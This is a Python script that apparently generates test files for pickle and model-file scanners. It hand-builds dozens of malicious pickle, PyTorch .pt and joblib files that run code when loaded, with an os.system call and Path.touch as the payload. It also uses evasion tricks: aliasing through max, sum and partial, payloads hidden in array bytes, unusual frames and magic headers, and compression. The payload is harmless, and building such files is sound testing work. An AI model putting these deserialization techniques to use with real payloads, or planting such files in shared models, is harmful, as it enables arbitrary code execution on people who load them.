"""Small files that run code when they are loaded, made by hand; each is of a kind of its own.

    python hostile_files.py FOLDER     writes them and loads each in a process and a folder of its
                                       own; prints those that did not make a file there

What they do is to make an empty file, or one of a few letters, in the current folder.
"""

import io
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

# Instructions of a pickle, as functions that put them together.


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def name(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def row(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def many(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def table(**items: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"


def call(what: bytes, *given: bytes) -> bytes:
    return what + row(*given) + b"R"


def new(what: bytes, *given: bytes) -> bytes:
    return what + row(*given) + b"\x81"


def new_by(what: bytes, **given: bytes) -> bytes:
    return what + b")" + table(**given) + b"\x92"


def state(of: bytes, **given: bytes) -> bytes:
    return of + table(**given) + b"b"


def slots(of: bytes, **given: bytes) -> bytes:
    return of + row(b"N", table(**given)) + b"b"


def put(at: int, value: bytes) -> bytes:
    return value + b"q" + bytes([at])


def get(at: int) -> bytes:
    return b"h" + bytes([at])


def then(*steps: bytes) -> bytes:
    """Make each and throw it away, but for the last."""
    return b"0".join(steps)


GETATTR = name("builtins", "getattr")
SPACE = name("types", "SimpleNamespace")
ORDERED = name("collections", "OrderedDict")
PARAMETER = name("torch.nn.parameter", "Parameter")
MAP = name("builtins", "map")
MAX = name("builtins", "max")
TYPE = name("builtins", "type")
MODE = number(0o666)
WRAPPER = name("joblib.numpy_pickle", "NumpyArrayWrapper")
PATH = call(name("pathlib", "PosixPath"), text("PWNED"))
TOUCH = call(GETATTR, PATH, text("touch"))
"""A method that makes the file when it is called, with a mode or with nothing."""
LINK = call(GETATTR, PATH, text("symlink_to"))
"""The same, called with a text and a truth value."""
SYSTEM = call(name("os", "system"), text("touch PWNED"))
"""What a reader does not see that reads other bytes than the load."""


def space(**given: bytes) -> bytes:
    return state(new(SPACE), **given)


def ordered(**given: bytes) -> bytes:
    return call(ORDERED) + b"(" + b"".join(text(k) + v for k, v in given.items()) + b"u"


DETACHES = space(detach=TOUCH)
"""`Parameter(it)` calls it."""


def module(**given: bytes) -> bytes:
    return state(new(name("torch.nn.modules.module", "Module")), **given)


def dtype(code: str, flags: int = 0) -> bytes:
    made = call(name("numpy", "dtype"), text(code), b"\x89", b"\x88")
    minus = number(-1)
    return made + row(number(3), text("|"), b"N", b"N", b"N", minus, minus, number(flags)) + b"b"


def array(kind: bytes, length: int, **more: bytes) -> bytes:
    """What joblib writes before an array's bytes, up to the instruction before them."""
    return state(kind, **wrapped(length, **more))


def wrapped(length: int, **more: bytes) -> dict[str, bytes]:
    plain = call(name("numpy", "dtype"), text("u1"), b"\x89", b"\x88")
    return {
        "subclass": name("numpy", "ndarray"),
        "shape": row(number(length)),
        "order": text("C"),
        "dtype": plain,
        "allow_mmap": b"\x89",
    } | more


def swallowed(steps: bytes) -> tuple[int, bytes]:
    """Bytes of an array, and what stands behind them: for who reads no array there, one text."""
    return 5, b"B" + struct.pack("<I", len(steps)) + steps


# Files.


def pickled(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def in_zip(body: bytes, **members: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", pickled(body))
        archive.writestr("archive/byteorder", "little")
        for member, data in members.items():
            archive.writestr(f"archive/{member}", data)
        archive.writestr("archive/version", "3\n")
    return file.getvalue()


MAGIC = 0x1950A86A20F9469CFC6C
HEAD = b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19"


def legacy(body: bytes, magic: bytes = HEAD, keys: bytes = b"]") -> bytes:
    return b"".join(map(pickled, (magic, b"M\xe9\x03", b"}", body, keys)))


def storage(location: bytes) -> bytes:
    kind = name("torch", "FloatStorage")
    return row(text("storage"), kind, text("0"), location, number(1)) + b"Q"


def frame(size: int) -> bytes:
    return b"\x95" + struct.pack("<Q", size)


def by_hand(*parts: bytes) -> bytes:
    return b"".join(parts)


def numbered() -> bytes:
    """Digits of the magic number, called to be a number."""
    return call(name("builtins", "int"), text(str(MAGIC)))


INIT = ordered(__init_subclass__=TOUCH)
REBUILD = name("torch._tensor", "_rebuild_from_type_v2")
TENSOR = call(
    name("torch._utils", "_rebuild_tensor_v2"),
    storage(text("cpu")),
    number(0),
    row(number(1)),
    row(number(1)),
    b"\x89",
    call(ORDERED),
)
WITH_STATE = name("torch._utils", "_rebuild_parameter_with_state")
DATA = {"data/0": bytes(4)}

PICKLES: dict[str, bytes] = {
    # An alias: what a function gives is what it was given, and is changed by that name.
    "alias_by_max": then(
        put(1, new(SPACE)), state(call(MAX, many(get(1))), append=TOUCH), get(1) + MODE + b"a"
    ),
    "alias_by_sum": then(
        put(1, new(SPACE)),
        state(call(name("builtins", "sum"), b"]", get(1)), append=TOUCH),
        get(1) + MODE + b"a",
    ),
    "alias_of_a_class": then(
        slots(call(MAX, many(name("argparse", "Namespace"))), __setstate__=TOUCH),
        new(name("argparse", "Namespace")) + MODE + b"b",
    ),
    "alias_by_a_called_partial": then(
        put(1, new(SPACE)),
        state(
            call(call(name("functools", "partial"), MAX, many(get(1)))),
            append=TOUCH,
        ),
        get(1) + MODE + b"a",
    ),
    # Holders given to what calls their methods: by keyword, in a list, to a class's __new__.
    "holder_by_keyword": new_by(PARAMETER, data=DETACHES),
    "holder_in_a_list_to_map": new(
        name("time", "struct_time"), call(MAP, PARAMETER, many(DETACHES))
    ),
    "holder_to_the_new_of_a_class": new(name("torch.nn.parameter", "Buffer"), DETACHES),
    "holder_in_a_tuple_of_new_ex": call(
        name("copyreg", "__newobj_ex__"), PARAMETER, row(DETACHES), b"}"
    ),
    "holder_in_a_list_to_print": call(
        name("builtins", "print"),
        many(module(extra_repr=TOUCH, _modules=b"}")),
    ),
    "holder_in_a_dict_in_a_class": call(
        name("graphlib", "TopologicalSorter"),
        ordered(a=call(MAP, PARAMETER, many(DETACHES))),
    ),
    "holder_with_keys_of_its_own": call(ORDERED, state(call(ORDERED), keys=TOUCH)),
    "holder_with_keys_in_a_counter": call(
        name("collections", "Counter"), state(call(ORDERED), keys=TOUCH)
    ),
    "holder_two_deep_under_setitem": by_hand(
        state(new(name("email.message", "Message")), policy=space(header_max_count=LINK)),
        text("a"),
        b"Ns",
    ),
    "holder_within_a_key": by_hand(
        b"}",
        slots(
            call(name("pathlib", "PosixPath"), text("k")),
            _parts=call(MAP, PARAMETER, many(DETACHES)),
        ),
        b"Ns",
    ),
    "holder_as_a_tuple_of_arguments": by_hand(
        name("torch.nn.parameter", "Buffer"),
        call(name("builtins", "tuple"), many(DETACHES)),
        b"R",
    ),
    "sum_of_what_map_gives": call(name("math", "fsum"), call(MAP, PARAMETER, many(DETACHES))),
    # Names that are only kept, given to what calls them.
    "type_given_to_map": new(
        name("time", "struct_time"),
        call(
            MAP,
            TYPE,
            many(text("B")),
            many(
                row(
                    call(
                        MAX,
                        call(
                            name("collections", "deque"),
                            call(MAP, TYPE, many(text("A")), many(b")"), many(INIT)),
                        ),
                    )
                )
            ),
            many(b"}"),
        ),
    ),
    "metaclass_by_another_name": call(
        name("numbers", "ABCMeta"),
        text("B"),
        row(call(name("numbers", "ABCMeta"), text("A"), b")", INIT)),
        b"}",
    ),
    "type_given_to_a_rebuild": call(
        REBUILD, TYPE, MODE, row(text("A"), b")", ordered(as_subclass=TOUCH)), b"N"
    ),
    # Classes that do harm with plain values, by whatever module they come.
    "popen_of_another_module": call(
        name("jupyter_client.launcher", "Popen"), many(text("touch"), text("PWNED"))
    ),
    "popen_of_psutil": call(name("psutil", "Popen"), many(text("touch"), text("PWNED"))),
    "memmap_of_pylab": new(
        name("pylab", "memmap"), text("PWNED"), text("uint8"), text("w+"), number(0), number(1)
    ),
    # State given to what looks for a method in it.
    "state_of_a_compiled_model": state(
        new(name("torch._dynamo.eval_frame", "OptimizedModule")),
        dynamo_ctx=TOUCH,
        _orig_mod=state(new(SPACE), forward=MODE, __call__=MODE),
    ),
    "state_that_calls_a_method_by_name": state(
        new(name("torch._dynamo.eval_frame", "OptimizedModule")),
        dynamo_ctx=call(name("operator", "methodcaller"), text("touch")),
        _orig_mod=state(new(SPACE), forward=MODE, __call__=PATH),
    ),
    "map_that_calls_a_method_by_name": call(
        name("collections", "deque"),
        call(MAP, call(name("operator", "methodcaller"), text("touch")), many(PATH)),
    ),
    "state_of_an_optimizer": state(
        new(name("torch.optim.sgd", "SGD")), defaults=space(setdefault=LINK)
    ),
    "bytes_of_a_module_are_a_view": by_hand(b"cbase64\n_urlsafe_decode_translation\n\x980", SYSTEM),
}

EVENTS = state(new(name("torch.autograd.profiler_util", "EventList")), _use_device=b"N")
EXPORTS = call(GETATTR, EVENTS, text("export_chrome_trace"))
PICKLES["state_that_exports"] = state(
    new(name("torch._dynamo.eval_frame", "OptimizedModule")),
    dynamo_ctx=EXPORTS,
    _orig_mod=state(new(SPACE), forward=MODE, __call__=text("PWNED")),
)
INDUCTOR = state(new(name("torch", "_TorchCompileInductorWrapper")), get_compiler_config=EXPORTS)
PICKLES["state_that_exports_by_the_compilers_own_name"] = state(
    new(name("torch._dynamo.eval_frame", "OptimizedModule")),
    dynamo_ctx=call(GETATTR, INDUCTOR, text("get_compiler_config")),
    _orig_mod=state(new(SPACE), forward=MODE, __call__=text("PWNED")),
)

LOADED: dict[str, tuple[str, bytes]] = {
    f"{key}.pkl": ("pickle", pickled(body)) for key, body in PICKLES.items()
}
"""Name of the file -> what loads it, and its bytes."""

LOADED |= {
    f"{key}.pt": ("torch", in_zip(body, **DATA))
    for key, body in {
        "zip_state_of_a_parameter": call(
            WITH_STATE, TENSOR, b"\x89", call(ORDERED), row(space(items=TOUCH), b"N")
        ),
        "zip_state_of_a_subclass": call(
            REBUILD,
            name("torch._utils", "_rebuild_tensor_v2"),
            name("torch", "Tensor"),
            row(
                storage(text("cpu")),
                number(0),
                row(number(1)),
                row(number(1)),
                b"\x89",
                call(ORDERED),
            ),
            row(space(items=TOUCH), b"N"),
        ),
        "zip_array_bytes_are_a_program": by_hand(
            array(new(WRAPPER), len(SYSTEM) + 1), SYSTEM, b"0", b"0}"
        ),
    }.items()
}
LOADED["legacy_array_bytes_are_a_program.pt"] = (
    "torch",
    legacy(by_hand(array(new(WRAPPER), len(SYSTEM) + 1), SYSTEM, b"0", b"0}")),
)
ODD = frame(3) + b"\x8c\x05abcde0"
LOADED["legacy_with_a_called_number.pt"] = ("torch", legacy(ODD + SYSTEM, magic=numbered()))
LOADED["legacy_with_a_long_beginning.pt"] = (
    "torch",
    legacy(ODD + SYSTEM, magic=raw(bytes(5000)) + b"0" + HEAD),
)
LOADED["frame_without_a_protocol.pkl"] = (
    "pickle",
    frame(len(SYSTEM) + 1) + SYSTEM + b".",
)
LOADED["frame_that_hides_without_a_protocol.pkl"] = ("pickle", ODD + SYSTEM + b".")
COUNT, SWALLOWED = swallowed(SYSTEM + b"0")
JOBLIBS: dict[str, bytes] = {
    # What the load takes for an array's bytes is, for who looks for none, the head of a long text.
    "array_by_an_alias": by_hand(
        put(1, new(WRAPPER)),
        b"0",
        array(call(MAX, many(get(1))), COUNT),
        SWALLOWED,
        b"0}",
    ),
    "array_by_new_ex": by_hand(
        array(call(name("copyreg", "__newobj_ex__"), WRAPPER, b")", b"}"), COUNT),
        SWALLOWED,
        b"0}",
    ),
    "array_by_a_partial": by_hand(
        array(call(call(name("functools", "partial"), name("copyreg", "__newobj__"), WRAPPER)), 5),
        SWALLOWED,
        b"0}",
    ),
    "array_built_twice": by_hand(
        put(1, new(WRAPPER)),
        table(**wrapped(1)),
        b"bN",
        b"0",
        array(get(1), COUNT),
        SWALLOWED,
        b"0}",
    ),
    # What the load does not take for an array's bytes.
    "array_that_reads_another_way": by_hand(
        array(new(WRAPPER), len(SYSTEM) + 1, read=name("builtins", "print")), SYSTEM, b"00}"
    ),
    "array_whose_type_says_objects": by_hand(
        array(new(WRAPPER), len(pickled(SYSTEM)), dtype=dtype("u1", 1)), pickled(SYSTEM), b"0}"
    ),
    "state_with_items_of_its_own": by_hand(new(SPACE), space(items=TOUCH), b"b"),
}
LOADED |= {f"{key}.joblib": ("joblib", pickled(body)) for key, body in JOBLIBS.items()}
LOADED["object_array_of_hostile_lists.joblib"] = (
    "joblib",
    pickled(
        by_hand(
            array(
                new(WRAPPER), 1, dtype=call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
            ),
            pickled(
                then(
                    put(1, many(b"N")) + number(0) + space(detach=TOUCH) + b"s",
                    call(MAP, PARAMETER, get(1)) + b"q\x02",
                    new(name("time", "struct_time"), get(2)),
                )
            ),
            b"0}",
        )
    ),
)
TEXT = SYSTEM + b"."
LOADED["zlib_of_protocol_0.joblib"] = ("joblib", zlib.compress(TEXT))
LOADED["zfile.joblib"] = (
    "joblib",
    b"ZF" + hex(len(TEXT)).encode().ljust(19) + zlib.compress(TEXT),
)
LOADED["zfile.pkl"] = LOADED["zfile.joblib"]


def _gzipped() -> bytes:
    import gzip

    return gzip.compress(TEXT)


LOADED["gzip_of_protocol_0.joblib"] = ("joblib", _gzipped())

LOAD = {
    "pickle": "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))",
    "torch": "import torch, sys; torch.load(sys.argv[1], weights_only=False)",
    "joblib": "import joblib, sys; joblib.load(sys.argv[1])",
    "numpy": "import numpy, sys; numpy.load(sys.argv[1], allow_pickle=True)",
    "npz": "import numpy, sys; dict(numpy.load(sys.argv[1], allow_pickle=True))",
}


def does_harm(path: Path, by: str, folder: Path) -> str:
    """Load it in a process and a folder of its own; "" where it made a file there, else why not."""
    folder.mkdir()
    loading = subprocess.run(
        [sys.executable, "-c", LOAD[by], path], cwd=folder, capture_output=True, text=True
    )
    return "" if list(folder.iterdir()) else loading.stderr[-600:] or "nothing happened"


def write_all(folder: Path) -> None:
    for file, (_, data) in LOADED.items():
        (folder / file).write_bytes(data)


if __name__ == "__main__":
    target = Path(sys.argv[1]).absolute()
    target.mkdir(exist_ok=True)
    write_all(target)
    for file, (by, _) in LOADED.items():
        if len(sys.argv) > 2 and sys.argv[2] not in file:
            continue
        if problem := does_harm(target / file, by, target / f"of_{file}"):
            print(f"== {file}: {problem}")
